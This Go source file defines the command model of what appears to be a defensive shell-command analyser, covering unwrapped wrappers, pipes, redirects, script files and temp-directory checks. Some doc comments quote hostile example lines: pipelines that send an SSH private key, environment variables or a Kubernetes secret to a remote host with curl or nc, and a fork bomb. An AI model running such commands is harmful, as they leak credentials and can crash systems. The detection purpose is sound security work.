package model

import "strings"

// ActionExecute is the action of a shell command: what it does to what is
// for the rules to say, not the parser.
const ActionExecute Action = "execute"

// Program names of the mutations a shell parser emits for what is not a
// program: an output redirection that truncates its target (cmd > file),
// one that appends to it (cmd >> file), and a part of the input that
// could not be analysed (Command.Problem).
const (
	RedirectProgram   = "(redirect)"
	AppendProgram     = "(append)"
	UnanalysedProgram = "(unanalysed)"
)

// Command is one simple command a shell line would run, after the wrappers
// around it (sudo, env, xargs, find -exec, sh -c ...) are unwrapped.
type Command struct {
	// Program is the program's name without its directory ("rm" for
	// "/bin/rm"); empty when the name is not known statically.
	Program string
	// Args are the arguments after the program name, resolved statically.
	Args []Arg
	// Text is the command as it appears in the input.
	Text string
	// Line and Col locate the command in the input line, 1-based.
	Line, Col int32
	// Wrappers are the programs unwrapped to reach this command, outermost
	// first ("sudo", "xargs").
	Wrappers []string
	// Cwd is the directory the command runs in, when known ("" unknown).
	Cwd string
	// Home is the home directory ($HOME) of the environment the command
	// runs in, when the caller knows it ("" unknown): a path in it is a
	// home path wherever it lies (/github/home, /Users/x).
	Home string
	// Workspace is what Cwd shows about itself (its .gitignore, its build
	// files), when the caller read it and the command runs there.
	Workspace *Workspace
	// Env are the variables the line sets before this command.
	Env map[string]string
	// MoreFrom says from where the command receives operands at run time
	// that the input does not show (MoreOperands).
	MoreFrom string
	// StdinFrom names what feeds the command's stdin when that is a pipe
	// or a here-document ("pipe from curl", "heredoc").
	StdinFrom string
	// Sources are the commands whose output this one takes in, through a
	// pipe or a command substitution in an argument; nil when there are
	// none, as on most commands.
	Sources *Sources
	// Stdin is the text a here-document or here-string feeds the command,
	// when the input shows it: redis-cli, mongosh, ed and ex read their
	// commands from it.
	Stdin string
	// Redirects are the files the command's output is written to.
	Redirects []Redirect
	// Writer, on a redirection's command, is the command whose output the
	// redirection writes (nil for a statement with no command: > f).
	Writer *Command
	// Function says that Program is a shell function the line defines
	// before calling it: bash runs the function's body, whose commands
	// are judged where it is defined, rather than a program of that name.
	Function bool
	// ForkBomb says that the function called starts itself again in the
	// background or through a pipe (:(){ :|:& };:).
	ForkBomb bool
	// MoreOperands is set when the command receives operands at run time
	// that the input does not show: xargs and parallel feeding it from
	// stdin, find -exec feeding it found paths. (Beside the other flags,
	// so that they share one word.)
	MoreOperands bool
	// ImageBuild says the command runs in an image build (a Dockerfile
	// RUN, shell --dialect dockerfile) and not through a wrapper that
	// reaches past it (ssh, a container exec): the file system it changes
	// is the image being built, which a rebuild recreates (rules/
	// imagebuild.go).
	ImageBuild bool
	// RunContext is the context the caller states the command runs in
	// through the line's dialect (a CI job's fresh checkout, a make
	// recipe): the rules read it to judge what the context makes
	// recoverable (rules/runcontext.go). Zero: anywhere, as in an agent's
	// or a person's shell.
	RunContext RunContext
	// Depth is how many shell re-parses (sh -c, eval, heredoc to a shell)
	// lie between the input and this command. (Beside the flags, in the
	// same word: a Command stays in one allocation size class.)
	Depth int32
	// Problem, when set, is why the command could not be analysed (a parse
	// error with its position, a dynamic program name, a nesting bound).
	Problem string
	// ScriptFile, on a command that runs a script file (bash x.sh, ./x.sh,
	// python3 x.py, source x), says whether its content was read and from
	// where; nil for other commands.
	ScriptFile *ScriptFile
	// Links are the symbolic links already on disk that the command's
	// operands were followed through (observed where the action runs):
	// each operand is judged as the path it reaches.
	Links []FollowedLink
	// Observed are the facts Recourse gathered, read-only, where the
	// action runs about what this command acts on (--observe auto); nil
	// when nothing was observed (observation off, a read, or an earlier
	// command of the line may change the targets first).
	Observed *Observed
	// Script is source code an interpreter runs inline (python -c ...),
	// or the content of the program file it runs when that was read
	// (ScriptFile), with Interpreter naming the language; rules scan it.
	Script      string
	Interpreter string
	// ScriptRead is set when the walker read the Script call by call
	// (Python): the files it writes, deletes or moves and the commands it
	// runs are mutations of their own, so the rules need not scan it for
	// such calls; what it could not read is the Problem.
	ScriptRead bool
	// Cmdlets are the PowerShell cmdlets the Script calls that the walker
	// did not judge as a shell command of its own (Remove-Item is judged
	// as rm): aliases resolved, in lower case, for the rules to read by
	// their verb.
	Cmdlets []string
}

// Sources are the commands whose output a command takes in: what they
// read or print, so that a rule can ask whether a secret goes into the
// request a network client sends (cat ~/.ssh/id_rsa | base64 | curl -d @-
// URL, env | nc host 80, curl -d "$(kubectl get secret db -o yaml)" URL).
type Sources struct {
	// Piped are the words (name and arguments) of the commands before
	// the command in its pipeline, one slice for each, nearest first (a
	// few of them).
	Piped [][]Arg
	// Substituted are the command substitutions in its arguments.
	Substituted []Substitution
}

// Substitution is a command substitution in an argument ($(…) or `…`):
// In is the argument as Args holds it (its Value, a shape such as
// "key=$(...)"), Commands the words of the commands whose output it takes
// in, one slice for each, the last of a pipeline first (as Piped).
type Substitution struct {
	In       string
	Commands [][]Arg
}

// FoundPath stands for the paths a search finds at run time: find START
// -exec CMD {} runs CMD on START/{}, any path under START.
const FoundPath = "{}"

// Arg is one resolved argument.
type Arg struct {
	// Value is the argument after quote removal, brace and tilde expansion.
	// For a dynamic argument it is its shape, with parameter expansions
	// kept as $NAME ("$TMPDIR/build", "$(...)").
	Value string
	// Dynamic is set when the value depends on a variable, a command
	// substitution or anything else only known at run time.
	Dynamic bool
}

// Redirect is an output redirection of a command.
type Redirect struct {
	Op     string // ">", ">>", "&>", ">|"
	Target Arg
	// Fd is the redirected file descriptor ("1" when omitted, "2" for 2>).
	Fd string
}

// tempDirs are the directories whose contents the system treats as
// disposable (and cleans on its own).
var tempDirs = [...]string{"/tmp", "/var/tmp", "/private/tmp", "/private/var/tmp", "/dev/shm", "/private/var/folders", "/var/folders"}

// HasDotDot reports whether a slash-separated path has a ".." segment:
// where it leads depends on the directory it is read from.
func HasDotDot(p string) bool {
	for seg := range strings.SplitSeq(p, "/") {
		if seg == ".." {
			return true
		}
	}
	return false
}

// InTempDir reports whether the clean absolute path p is a temp directory
// or inside one. The rules judge such paths disposable; the shell parser
// does not follow a cd into one (see its cd).
func InTempDir(p string) bool {
	for _, t := range tempDirs {
		if strings.HasPrefix(p, t) && (len(p) == len(t) || p[len(t)] == '/') {
			return true
		}
	}
	return false
}

// ScriptFile is a script file a command runs, and what is known of its
// content. The content itself is judged as the commands or inline code
// it holds (as sh -c TEXT or python3 -c TEXT is); this records where it
// came from, for the report.
type ScriptFile struct {
	// Path is the file as the command names it; Resolved is where it was
	// looked for (against the command's working directory).
	Path     string
	Resolved string
	// From is ScriptFromLine when the line itself wrote the file earlier
	// (cat > x.sh <<EOF … EOF; bash x.sh), ScriptFromObserved when it was
	// read where the action runs, "" when its content is not known.
	From string
	// Bytes and SHA256 describe the content read.
	Bytes  int
	SHA256 string
	// Unread says why the content was not read, when it was not.
	Unread string
}

// FollowedLink is one operand read through a symbolic link on disk: Path
// as the command spells it, Reaches the path it lands on.
type FollowedLink struct {
	Path    string `json:"path"`
	Reaches string `json:"reaches"`
}

// Where a script file's content came from (ScriptFile.From).
const (
	ScriptFromLine     = "line"
	ScriptFromObserved = "observed"
)
